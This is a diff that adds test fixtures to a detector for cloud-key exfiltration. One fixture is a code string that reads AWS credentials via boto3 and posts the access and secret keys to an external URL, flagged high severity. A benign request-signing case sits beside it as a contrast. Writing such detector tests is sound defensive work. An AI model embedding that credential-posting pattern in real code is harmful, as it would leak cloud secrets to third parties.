@@ -97,6 +97,22 @@ CLOUD = "exfiltration.cloud-keys"
             f"        requests.post(url={URL!r}, json=data)\n",
             "high",
         ),
+        # boto3's credentials, the pair posted to a third party.
+        (
+            "import boto3, requests\ndef connect():\n"
+            "    cd = boto3.Session().get_credentials()\n"
+            "    data = {'k': cd.access_key, 's': cd.secret_key}\n"
+            f"    requests.post({URL!r}, json=data, timeout=5)\n",
+            "high",
+        ),
+        # boto3's credentials sign a request (requests-aws4auth): the pair stays here.
+        (
+            "import boto3, requests\nfrom requests_aws4auth import AWS4Auth\ndef search(q):\n"
+            "    c = boto3.Session().get_credentials()\n"
+            "    auth = AWS4Auth(c.access_key, c.secret_key, 'us-east-1', 'es')\n"
+            f"    return requests.post({URL!r}, auth=auth, json=q)\n",
+            None,
+        ),
         # The cloud's own token service: the SDK's business.
         (
             "import requests\ndef token(access_key_secret):\n"
